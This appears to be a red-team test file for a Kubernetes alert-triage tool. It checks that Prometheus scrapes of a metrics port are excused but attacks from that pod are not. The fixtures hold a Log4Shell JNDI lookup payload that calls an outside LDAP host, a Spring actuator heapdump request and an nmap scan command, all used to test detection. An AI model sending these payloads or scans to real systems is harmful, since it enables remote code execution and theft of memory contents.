/**
 * Red-team 5 traps for workload-baseline's "Prometheus scraping a port the target pod declares for metrics": the
 * excuse is about a scrape. An exploit delivered from a (compromised) Prometheus pod to that port, or a tool run in a
 * Prometheus pod's other container, is not one.
 * Hole fixed (workload-baseline, collectors.ts SCRAPE_URL_PATH / SCRAPE_USER_AGENT): an actuator heap dump pulled by
 * python-requests from the declared port was 'a scrape'; where the record shows the request, it must be a metrics path
 * and Prometheus's user agent.
 */
import { describe, expect, it } from 'vitest';
import { triageAlert } from '../../../src/triage/pipeline.js';
import type { Pod } from '../../../src/cluster/model.js';
import type { Alert } from '../../../src/alerts/model.js';
import { alert, containerIdOf, indexOf, node, owner, pod } from '../../support/cluster.js';

const A = 'edge-1';
const B = 'edge-2';
const prom = pod('prometheus-k8s-0', {
  namespace: 'monitoring',
  node: A,
  ip: '10.1.37.90',
  owner: { kind: 'StatefulSet', name: 'prometheus-k8s' },
  containers: [
    { name: 'prometheus', image: 'quay.io/prometheus/prometheus:v2.53.1', args: ['--config.file=/etc/prometheus/config_out/prometheus.env.yaml'] },
    { name: 'config-reloader', image: 'quay.io/prometheus-operator/prometheus-config-reloader:v0.75.0', args: ['--reload-url=http://127.0.0.1:9090/-/reload'] },
  ],
});
const app = pod('pos-api-7c9d-x2x2x', {
  namespace: 'store',
  node: B,
  ip: '10.1.94.210',
  owner: { kind: 'ReplicaSet', name: 'pos-api-7c9d' },
  containers: [{ name: 'pos-api', image: 'registry.example.com/pos-api:3.8.2', command: ['java', '-jar', '/app/pos.jar'], ports: [{ name: 'http-metrics', containerPort: 8081 }] }],
});
const index = indexOf([node(A, '192.168.7.11'), node(B, '192.168.7.12'), owner('StatefulSet', 'prometheus-k8s', 'monitoring'), owner('ReplicaSet', 'pos-api-7c9d', 'store'), prom, app]);

const flow = (src: Pod, dst: Pod, dstPort: number, title: string, extra: Partial<NonNullable<Alert['network']>> = {}, process?: Alert['process']) => {
  const a = alert({
    title,
    network: { srcIp: src.status!.podIP!, srcPort: 52144, dstIp: dst.status!.podIP!, dstPort, protocol: 'TCP', ...extra },
  });
  if (process) {
    a.process = process;
    a.container = { id: containerIdOf(src, 1), name: 'config-reloader', pod: src.metadata.name, namespace: src.metadata.namespace };
  }
  return triageAlert(a, { index }).verdict;
};

describe('redteam5 Prometheus on a declared metrics port', () => {
  it('still explained: a scrape of the declared http-metrics port', () => {
    expect(flow(prom, app, 8081, 'LOCAL SCAN TCP sweep - single source to many destinations', { url: '/metrics', userAgent: 'Prometheus/2.53.1' })).toMatchObject({ label: 'likely-false-positive' });
  });
  it('trap: a Log4Shell JNDI lookup sent from the Prometheus pod to the metrics port stays genuine', () => {
    expect(flow(prom, app, 8081, 'ET EXPLOIT Apache log4j RCE Attempt (http ldap) (CVE-2021-44228)', { url: '/metrics?x=${jndi:ldap://203.0.113.7:1389/a}', userAgent: '${jndi:ldap://203.0.113.7:1389/a}' }).label).toBe('genuine');
  });
  it('trap: a Spring actuator heap dump pulled from the metrics port stays genuine', () => {
    expect(flow(prom, app, 8081, 'ET WEB_SPECIFIC_APPS Spring Boot Actuator heapdump download', { url: '/actuator/heapdump', userAgent: 'python-requests/2.31' }).label).toBe('genuine');
  });
  it("trap: nmap run in the Prometheus pod's sidecar against the metrics port stays genuine", () => {
    expect(flow(prom, app, 8081, 'Port scan', {}, { name: 'nmap', path: '/tmp/nmap', commandLine: '/tmp/nmap -sV -p 8081 10.1.94.0/24', ancestors: [{ name: 'sh', commandLine: 'sh' }] }).label).toBe('genuine');
  });
});
